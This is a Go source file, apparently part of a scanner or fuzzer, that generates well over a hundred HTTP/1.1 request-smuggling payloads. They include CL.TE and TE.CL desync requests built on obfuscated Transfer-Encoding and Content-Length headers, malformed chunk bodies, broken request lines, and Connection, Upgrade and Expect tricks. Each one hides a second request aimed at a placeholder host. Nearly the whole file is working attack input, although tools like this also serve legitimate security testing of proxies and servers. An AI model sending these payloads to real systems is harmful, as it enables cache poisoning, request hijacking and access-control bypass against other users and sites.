package main

import (
	"fmt"
	"strings"
)

// h1Payloads lists the mutations of HTTP/1.1 requests.
func h1Payloads() []payload {
	var all []payload
	all = append(all, codings()...)
	all = append(all, lengths()...)
	all = append(all, chunks()...)
	all = append(all, lines()...)
	return append(all, hops()...)
}

const (
	host  = "Host: front.example\r\n"
	first = host + "X-First: x\r\n" // so that what folds does not fold into Host
)

// inner is the request that an attacker would like the origin to see.
const inner = "GET /smuggled-%ID% HTTP/1.1\r\nHost: front.example\r\n\r\n"

// codings: spellings of Transfer-Encoding that one server may see and another not, each with a Content-Length that
// reads the body one way (CL.TE) or the other (TE.CL).
func codings() []payload {
	spellings := map[string]string{
		"plain": "Transfer-Encoding: chunked", "identity": "Transfer-Encoding: identity", "unknown": "Transfer-Encoding: xchunked",
		"chunked, identity": "Transfer-Encoding: chunked, identity", "identity, chunked": "Transfer-Encoding: identity, chunked",
		"gzip, chunked": "Transfer-Encoding: gzip, chunked", "chunked, chunked": "Transfer-Encoding: chunked, chunked",
		"comma before": "Transfer-Encoding: ,chunked", "comma after": "Transfer-Encoding: chunked,", "quoted": "Transfer-Encoding: \"chunked\"",
		"parameter": "Transfer-Encoding: chunked;q=1", "upper case": "TRANSFER-ENCODING: CHUNKED", "mixed case": "tRANSFER-eNCODING: cHUNKED",
		"space before colon": "Transfer-Encoding : chunked", "tab before colon": "Transfer-Encoding\t: chunked", "no space": "Transfer-Encoding:chunked",
		"tab after colon": "Transfer-Encoding:\tchunked", "two spaces": "Transfer-Encoding:  chunked", "trailing space": "Transfer-Encoding: chunked ",
		"trailing tab": "Transfer-Encoding: chunked\t", "vertical tab before": "Transfer-Encoding: \vchunked", "vertical tab after": "Transfer-Encoding: chunked\v",
		"form feed": "Transfer-Encoding: \fchunked", "NUL after": "Transfer-Encoding: chunked\x00", "NUL before": "Transfer-Encoding: \x00chunked",
		"NUL in name": "Transfer-Encoding\x00: chunked", "0x01 in name": "\x01Transfer-Encoding: chunked", "0x7f after": "Transfer-Encoding: chunked\x7f",
		"0xa0 after": "Transfer-Encoding: chunked\xa0", "0xff before": "Transfer-Encoding: \xffchunked", "leading space": " Transfer-Encoding: chunked",
		"leading tab": "\tTransfer-Encoding: chunked", "folded": "Transfer-Encoding:\r\n chunked", "folded by tab": "Transfer-Encoding:\r\n\tchunked",
		"folded after": "Transfer-Encoding: chunked\r\n , identity", "bare LF before": "X: x\nTransfer-Encoding: chunked", "bare CR before": "X: x\rTransfer-Encoding: chunked",
		"bare LF after": "Transfer-Encoding: chunked\nX: x", "bare CR after": "Transfer-Encoding: chunked\rX: x", "CR CR LF": "X: x\r\r\nTransfer-Encoding: chunked",
		"underscore": "Transfer_Encoding: chunked", "twice": "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
		"chunked then identity": "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "identity then chunked": "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
		"chunked then unknown": "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow", "unknown then chunked": "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
		"empty": "Transfer-Encoding:", "empty then chunked": "Transfer-Encoding:\r\nTransfer-Encoding: chunked", "apostrophe": "Transfer-Encoding: 'chunked'",
		"colon twice": "Transfer-Encoding:: chunked", "name in name": "Foo: bar\r\nTransfer-Encoding: chunked\r\nFoo: bar", "no name": ": chunked",
		"content encoding": "Content-Encoding: chunked", "long s": "Tran\u017ffer-Encoding: chunked", "kelvin": "Transfer-Encoding: chun\u212aed", "brackets": "Transfer-Encoding: [chunked]",
	}
	var all []payload
	for _, name := range sorted(spellings) {
		te := spellings[name]
		short := "0\r\n\r\n" + inner // TE ends at 0, CL goes on: CL.TE
		all = append(all, payload{class: "CL.TE", name: name, raw: fmt.Sprintf("POST /a-%%ID%% HTTP/1.1\r\n%sContent-Length: %d\r\n%s\r\n\r\n%s", first, len(short)-len("%ID%")+markSize, te, short)})
		size := len(inner) - len("%ID%") + markSize
		long := fmt.Sprintf("%02x\r\n%s\r\n0\r\n\r\n", size, inner) // CL ends after the size line, TE goes on: TE.CL
		all = append(all, payload{class: "TE.CL", name: name, raw: fmt.Sprintf("POST /a-%%ID%% HTTP/1.1\r\n%s%s\r\nContent-Length: 4\r\n\r\n%s", first, te, long)})
	}
	return all
}

// lengths: Content-Length in spellings and numbers that servers read differently. The body is five bytes and then inner.
func lengths() []payload {
	spellings := map[string]string{
		"twice, the same": "Content-Length: 5\r\nContent-Length: 5", "twice, 5 and 0": "Content-Length: 5\r\nContent-Length: 0", "twice, 0 and 5": "Content-Length: 0\r\nContent-Length: 5",
		"list, the same": "Content-Length: 5, 5", "list, 5 and 0": "Content-Length: 5, 0", "list without space": "Content-Length: 5,0", "plus": "Content-Length: +5", "minus": "Content-Length: -5",
		"minus zero": "Content-Length: -0", "leading zero": "Content-Length: 05", "hexadecimal": "Content-Length: 0x5", "exponent": "Content-Length: 5e0", "fraction": "Content-Length: 5.0",
		"underscore in number": "Content-Length: 0_5", "spaces inside": "Content-Length: 0 5", "empty": "Content-Length:", "empty then 5": "Content-Length:\r\nContent-Length: 5", "overflow 64": "Content-Length: 18446744073709551621",
		"overflow 32": "Content-Length: 4294967301", "semicolon": "Content-Length: 5;", "comma": "Content-Length: 5,", "vertical tab": "Content-Length: \v5", "NUL": "Content-Length: 5\x00",
		"space before colon": "Content-Length : 5", "tab before colon": "Content-Length\t: 5", "leading space": " Content-Length: 5", "folded": "Content-Length:\r\n 5", "folded number": "Content-Length: 5\r\n 0",
		"bare LF": "X: x\nContent-Length: 5", "bare CR": "X: x\rContent-Length: 5", "quoted": "Content-Length: \"5\"", "word": "Content-Length: five", "arabic digit": "Content-Length: \u0665", "in Connection": "Content-Length: 5\r\nConnection: Content-Length",
	}
	var all []payload
	for _, name := range sorted(spellings) {
		all = append(all, payload{class: "length", name: name, raw: "POST /a-%ID% HTTP/1.1\r\n" + first + spellings[name] + "\r\n\r\nhello" + inner})
	}
	for _, method := range []string{"GET", "HEAD", "DELETE", "OPTIONS", "TRACE"} {
		all = append(all, payload{class: "length", name: method + " with a body", raw: method + " /a-%ID% HTTP/1.1\r\n" + host + "Content-Length: 5\r\n\r\nhello" + inner})
	}
	return all
}

// chunks: bodies in chunks whose lines servers end at different places.
func chunks() []payload {
	bodies := map[string]string{
		"extension": "5;a=b\r\nhello\r\n0\r\n\r\n", "extension with LF": "5;a\nhello\r\n0\r\n\r\n", "extension with CR": "5;a\rb\r\nhello\r\n0\r\n\r\n", "extension with LF at the end": "5\r\nhello\r\n0;a\n\r\n",
		"extension that hides a chunk": "2;\nxx\r\n0\r\n\r\n" + inner, "quoted CR LF in extension": "5;a=\"\r\n\"\r\nhello\r\n0\r\n\r\n", "long extension": "5;" + strings.Repeat("a", 20000) + "\r\nhello\r\n0\r\n\r\n",
		"LF ends the size": "5\nhello\r\n0\r\n\r\n", "CR ends the size": "5\rhello\r\n0\r\n\r\n", "LF ends the data": "5\r\nhello\n0\r\n\r\n", "LF everywhere": "5\nhello\n0\n\n", "CR CR LF": "5\r\r\nhello\r\n0\r\n\r\n",
		"hexadecimal prefix": "0x5\r\nhello\r\n0\r\n\r\n", "plus": "+5\r\nhello\r\n0\r\n\r\n", "minus": "-5\r\nhello\r\n0\r\n\r\n", "leading space": " 5\r\nhello\r\n0\r\n\r\n", "trailing space": "5 \r\nhello\r\n0\r\n\r\n",
		"trailing tab": "5\t\r\nhello\r\n0\r\n\r\n", "leading zeros": "0000000000000000000005\r\nhello\r\n0\r\n\r\n", "underscore": "0_5\r\nhello\r\n0\r\n\r\n", "overflow": "10000000000000005\r\nhello\r\n0\r\n\r\n", "overflow to zero": "10000000000000000\r\n\r\n" + inner,
		"empty size": "\r\nhello\r\n0\r\n\r\n", "no hexadecimal": "g\r\nhello\r\n0\r\n\r\n", "comma": "5,5\r\nhello\r\n0\r\n\r\n", "no end of data": "5\r\nhello0\r\n\r\n", "other end of data": "5\r\nhelloXX0\r\n\r\n", "too much data": "5\r\nhelloworld\r\n0\r\n\r\n",
		"NUL in size": "5\x00\r\nhello\r\n0\r\n\r\n", "no last chunk": "5\r\nhello\r\n", "last chunk of many zeros": "5\r\nhello\r\n000\r\n\r\n" + inner, "trailer": "5\r\nhello\r\n0\r\nX-Trailer: a\r\n\r\n", "trailer Content-Length": "5\r\nhello\r\n0\r\nContent-Length: 50\r\n\r\n",
		"trailer Transfer-Encoding": "5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n", "trailer Host": "5\r\nhello\r\n0\r\nHost: other.example\r\n\r\n", "trailer folded": "5\r\nhello\r\n0\r\nX: a\r\n b\r\n\r\n", "trailer with LF": "5\r\nhello\r\n0\r\nX: a\nY: b\r\n\r\n",
		"trailer that is a request": "5\r\nhello\r\n0\r\nGET /smuggled-%ID% HTTP/1.1\r\nHost: front.example\r\n\r\n", "LF ends the trailers": "5\r\nhello\r\n0\r\n\n" + inner, "CR ends the trailers": "5\r\nhello\r\n0\r\n\rX",
	}
	var all []payload
	for _, name := range sorted(bodies) {
		all = append(all, payload{class: "chunk", name: name, raw: "POST /a-%ID% HTTP/1.1\r\n" + host + "Transfer-Encoding: chunked\r\n\r\n" + bodies[name]})
	}
	return append(all,
		payload{class: "chunk", name: "HTTP/1.0", raw: "POST /a-%ID% HTTP/1.0\r\n" + host + "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n" + inner},
		payload{class: "chunk", name: "HTTP/1.0, keep-alive, with a length", raw: "POST /a-%ID% HTTP/1.0\r\n" + host + "Connection: keep-alive\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner})
}

// lines: request lines and header lines that end, begin or split at other places.
func lines() []payload {
	raw := map[string]string{
		"LF ends every line": "GET /a-%ID% HTTP/1.1\nHost: front.example\n\n", "LF ends the request line": "GET /a-%ID% HTTP/1.1\n" + host + "\r\n", "LF ends the head": "GET /a-%ID% HTTP/1.1\r\n" + host + "\n" + inner,
		"CR ends the request line": "GET /a-%ID% HTTP/1.1\rHost: front.example\r\n\r\n", "CR in a value": "GET /a-%ID% HTTP/1.1\r\n" + host + "X: a\rGET /smuggled-%ID% HTTP/1.1\r\n\r\n", "NUL in a value": "GET /a-%ID% HTTP/1.1\r\n" + host + "X: a\x00b\r\n\r\n",
		"NUL in a name": "GET /a-%ID% HTTP/1.1\r\n" + host + "X\x00: a\r\n\r\n", "folded value": "GET /a-%ID% HTTP/1.1\r\n" + host + "X: a\r\n b\r\n\r\n", "folded first header": "GET /a-%ID% HTTP/1.1\r\n X: a\r\n" + host + "\r\n",
		"folded Host": "GET /a-%ID% HTTP/1.1\r\nHost:\r\n front.example\r\n\r\n", "space before colon": "GET /a-%ID% HTTP/1.1\r\n" + host + "X : a\r\n\r\n", "space in a name": "GET /a-%ID% HTTP/1.1\r\n" + host + "X Y: a\r\n\r\n",
		"no colon": "GET /a-%ID% HTTP/1.1\r\n" + host + "X\r\n\r\n", "empty name": "GET /a-%ID% HTTP/1.1\r\n" + host + ": a\r\n\r\n", "empty lines before": "\r\n\r\nGET /a-%ID% HTTP/1.1\r\n" + host + "\r\n", "space before the method": " GET /a-%ID% HTTP/1.1\r\n" + host + "\r\n",
		"two spaces": "GET  /a-%ID%  HTTP/1.1\r\n" + host + "\r\n", "tabs": "GET\t/a-%ID%\tHTTP/1.1\r\n" + host + "\r\n", "space in the target": "GET /a-%ID% b HTTP/1.1\r\n" + host + "\r\n", "vertical tab in the target": "GET /a-%ID%\vb HTTP/1.1\r\n" + host + "\r\n",
		"NUL in the target": "GET /a-%ID%\x00b HTTP/1.1\r\n" + host + "\r\n", "fragment": "GET /a-%ID%#b HTTP/1.1\r\n" + host + "\r\n", "no slash": "GET a-%ID% HTTP/1.1\r\n" + host + "\r\n", "version 1.2": "GET /a-%ID% HTTP/1.2\r\n" + host + "\r\n",
		"version 2.0": "GET /a-%ID% HTTP/2.0\r\n" + host + "\r\n", "version 1.01": "GET /a-%ID% HTTP/1.01\r\n" + host + "\r\n", "version in small letters": "GET /a-%ID% http/1.1\r\n" + host + "\r\n", "no version": "GET /a-%ID%\r\n\r\n", "words after the version": "GET /a-%ID% HTTP/1.1 X\r\n" + host + "\r\n",
		"method with a control": "GE\x01T /a-%ID% HTTP/1.1\r\n" + host + "\r\n", "method with a colon": "GET: /a-%ID% HTTP/1.1\r\n" + host + "\r\n", "no Host": "GET /a-%ID% HTTP/1.1\r\n\r\n", "two Hosts": "GET /a-%ID% HTTP/1.1\r\n" + host + "Host: other.example\r\n\r\n",
		"the same Host twice": "GET /a-%ID% HTTP/1.1\r\n" + host + host + "\r\n", "Host with a space": "GET /a-%ID% HTTP/1.1\r\nHost: front.example other\r\n\r\n", "Host with a path": "GET /a-%ID% HTTP/1.1\r\nHost: front.example/x\r\n\r\n",
		"Host with a user": "GET /a-%ID% HTTP/1.1\r\nHost: user@front.example\r\n\r\n", "Host list": "GET /a-%ID% HTTP/1.1\r\nHost: front.example, other.example\r\n\r\n", "empty Host": "GET /a-%ID% HTTP/1.1\r\nHost:\r\n\r\n", "Host with space before colon": "GET /a-%ID% HTTP/1.1\r\nHost : front.example\r\n\r\n",
		"absolute form, other Host": "GET http://front.example/a-%ID% HTTP/1.1\r\nHost: other.example\r\n\r\n", "absolute form with a user": "GET http://user@front.example/a-%ID% HTTP/1.1\r\nHost: front.example\r\n\r\n", "absolute form, other scheme": "GET gopher://front.example/a-%ID% HTTP/1.1\r\nHost: front.example\r\n\r\n",
		"head too long": "GET /a-%ID% HTTP/1.1\r\n" + host + "X: " + strings.Repeat("a", 200_000) + "\r\n\r\n",
	}
	var all []payload
	for _, name := range sorted(raw) {
		all = append(all, payload{class: "line", name: name, raw: raw[name]})
	}
	return all
}

// hops: headers that speak of the connection, and requests that would turn it into something else.
func hops() []payload {
	named := fmt.Sprintf("Connection: Content-Length\r\nContent-Length: %d\r\n\r\n%s", len(inner)-len("%ID%")+markSize, inner)
	raw := map[string]string{
		"Connection names Host": "GET /a-%ID% HTTP/1.1\r\n" + host + "Connection: Host\r\n\r\n", "Connection names Transfer-Encoding": "POST /a-%ID% HTTP/1.1\r\n" + host + "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
		"Connection names Content-Length": "POST /a-%ID% HTTP/1.1\r\n" + host + named, "close, then more": "GET /a-%ID% HTTP/1.1\r\n" + host + "Connection: close\r\n\r\n" + inner,
		"Upgrade to h2c": "GET /a-%ID% HTTP/1.1\r\n" + host + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n", "Upgrade to h2c, half named": "GET /a-%ID% HTTP/1.1\r\n" + host + "Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n",
		"Upgrade to WebSocket, refused by the origin": "GET /a-%ID% HTTP/1.1\r\n" + host + "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n" + inner,
		"Upgrade with a body":                         "POST /a-%ID% HTTP/1.1\r\n" + host + "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nContent-Length: 5\r\n\r\nhello" + inner, "Upgrade to TLS": "OPTIONS /a-%ID% HTTP/1.1\r\n" + host + "Connection: Upgrade\r\nUpgrade: TLS/1.0\r\n\r\n",
		"Expect": "POST /a-%ID% HTTP/1.1\r\n" + host + "Expect: 100-continue\r\nContent-Length: 5\r\n\r\nhello", "Expect, then more": "POST /a-%ID% HTTP/1.1\r\n" + host + "Expect: 100-continue\r\nContent-Length: 5\r\n\r\nhello" + inner, "Expect what nobody knows": "POST /a-%ID% HTTP/1.1\r\n" + host + "Expect: x\r\nContent-Length: 5\r\n\r\nhello",
		"Expect on GET without a body": "GET /a-%ID% HTTP/1.1\r\n" + host + "Expect: 100-continue\r\n\r\n" + inner, "CONNECT": "CONNECT a-%ID%.example:443 HTTP/1.1\r\nHost: a-%ID%.example:443\r\n\r\n" + inner, "CONNECT with a body": "CONNECT a-%ID%.example:443 HTTP/1.1\r\nHost: a-%ID%.example:443\r\nContent-Length: 5\r\n\r\nhello",
		"TE": "GET /a-%ID% HTTP/1.1\r\n" + host + "Connection: TE\r\nTE: trailers, chunked\r\n\r\n", "HTTP/2 preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "OPTIONS *": "OPTIONS * HTTP/1.1\r\n" + host + "X-Id: a-%ID%\r\n\r\n", "Proxy-Connection": "GET /a-%ID% HTTP/1.1\r\n" + host + "Proxy-Connection: keep-alive\r\nKeep-Alive: timeout=5\r\n\r\n",
	}
	var all []payload
	for _, name := range sorted(raw) {
		all = append(all, payload{class: "connection", name: name, raw: raw[name]})
	}
	return all
}
